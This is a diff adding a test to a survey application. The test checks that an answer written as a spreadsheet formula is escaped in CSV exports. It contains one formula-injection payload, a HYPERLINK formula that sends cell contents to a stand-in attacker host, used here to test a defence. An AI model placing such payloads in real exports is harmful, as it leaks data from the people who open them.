@@ -322,6 +322,29 @@ describe("an anonymous survey", () => {
   });
 });
 
+describe("an answer written as a formula", () => {
+  it("is exported as text a spreadsheet shows, never runs", async () => {
+    const created = await province.post("/api/surveys", {
+      title: "Contact",
+      definition: { elements: [{ type: "text", name: "contact", title: "Contactpersoon" }] },
+      audience: { organisationIds: [await organisationId(server.database, "be-municipality-71016")] },
+    });
+    const id = created.data.id;
+    await province.request("POST", `/api/surveys/${id}/open`, { headers: { "if-match": '"v1"' } });
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")';
+    await genk.request("PUT", `/api/surveys/${id}/response`, {
+      json: { data: { contact: formula } },
+      headers: { "if-match": '"v0"' },
+    });
+    expect(
+      (await genk.request("POST", `/api/surveys/${id}/response/submit`, { headers: { "if-match": '"v1"' } })).status,
+    ).toBe(200);
+    const csv = String((await province.get(`/api/surveys/${id}/answers.csv`)).data);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klik"")"`);
+    expect(csv).not.toMatch(/(^|[,\n])"?=HYPERLINK/);
+  });
+});
+
 describe("definitions written by others", () => {
   it("imports a SurveyJS definition, reporting what Samen does not analyse", async () => {
     const definition = JSON.parse(readFileSync("test/fixtures/surveys/product-feedback.surveyjs.json", "utf8"));
